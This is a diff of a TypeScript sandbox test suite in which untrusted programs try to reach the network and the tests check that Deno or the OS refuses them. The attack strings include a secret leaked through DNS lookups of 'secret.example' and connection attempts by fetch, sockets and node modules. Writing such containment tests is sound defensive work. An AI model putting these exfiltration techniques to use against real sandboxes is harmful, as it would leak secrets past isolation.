@@ -2,11 +2,11 @@ import assert from 'node:assert/strict';
 
 import type { Places } from '../arena/places.js';
 import type { ProgramAttack } from '../arena/program-attack.js';
-import { attempting, eachRefused, outcomesOf } from './attempts.js';
+import { attemptProgram, eachRefused, outcomesOf } from './attempts.js';
 
-/** The global `fetch` asks the server, which has nothing granted; everything else asks Deno. */
+/** The global `fetch` goes through the server, which grants no host; everything else is refused by Deno. */
 const noNetwork =
-  /Requires (?:net|sys|read|write|env) access|no network|is not defined|is not a function|is not a constructor|EPERM|EACCES|EventSource failed|os error|NetworkError|nothing came of it/;
+  /Requires (?:net|sys|read|write|env) access|no network|is not defined|is not a function|is not a constructor|EPERM|EACCES|EventSource failed|os error|NetworkError|it did not settle/;
 
 const viaNode = (module: string, connect: string) =>
   `new Promise((_, reject) => process.getBuiltinModule("${module}").${connect}.on("error", reject))`;
@@ -34,7 +34,7 @@ const connections = ({ port, socket, abstractSocket }: Places) => [
   `WebAssembly.compileStreaming(fetch("http://127.0.0.1:${port}/x.wasm"))`,
 ];
 
-/** Everything that would leave the process. */
+/** Attacks that try to reach the network. */
 export const network: readonly ProgramAttack[] = [
   {
     id: 'TS-19',
@@ -53,11 +53,11 @@ export const network: readonly ProgramAttack[] = [
   },
   {
     id: 'TS-21',
-    what: 'carry a secret out in the name that is looked up, by Deno and node:dns; learn the resolver',
+    what: 'leak a secret in a name that is looked up, through Deno and node:dns; find out the resolver',
     stoppedBy: 'Deno; OS',
     async attack({ run }) {
       const report = await run(
-        attempting([
+        attemptProgram([
           'Deno.resolveDns("secret.example", "A")',
           'Deno.resolveDns("secret.example", "TXT", { nameServer: { ipAddr: "127.0.0.1", port: 53 } })',
           '(await node("dns")).promises.lookup("secret.example")',
@@ -70,7 +70,7 @@ export const network: readonly ProgramAttack[] = [
         outcomesOf(report).filter(({ got }) => got !== undefined),
         [],
       );
-      // The error of a program that does not catch it names no resolver either.
+      // An uncaught error does not name the resolver either.
       const { error } = await run('await Deno.resolveDns("secret.example", "A")');
       assert.doesNotMatch(error ?? '', /\d+\.\d+\.\d+\.\d+/);
     },
@@ -90,7 +90,7 @@ export const network: readonly ProgramAttack[] = [
   },
   {
     id: 'NET-01',
-    what: 'connect in every way there is: fetch, WebSocket, EventSource, TCP, TLS, QUIC, HTTP/2, Unix and abstract sockets',
+    what: 'connect in every possible way: fetch, WebSocket, EventSource, TCP, TLS, QUIC, HTTP/2, Unix and abstract sockets',
     stoppedBy: 'Deno; OS',
     attack: eachRefused(connections, noNetwork),
   },
@@ -113,7 +113,7 @@ export const network: readonly ProgramAttack[] = [
   },
   {
     id: 'NET-03',
-    what: 'send a datagram, open an HTTP server, by node modules that fail late',
+    what: 'send a datagram or open an HTTP server through node modules that fail late',
     stoppedBy: 'Deno; OS',
     async attack({ run, places: { port } }) {
       for (const program of [
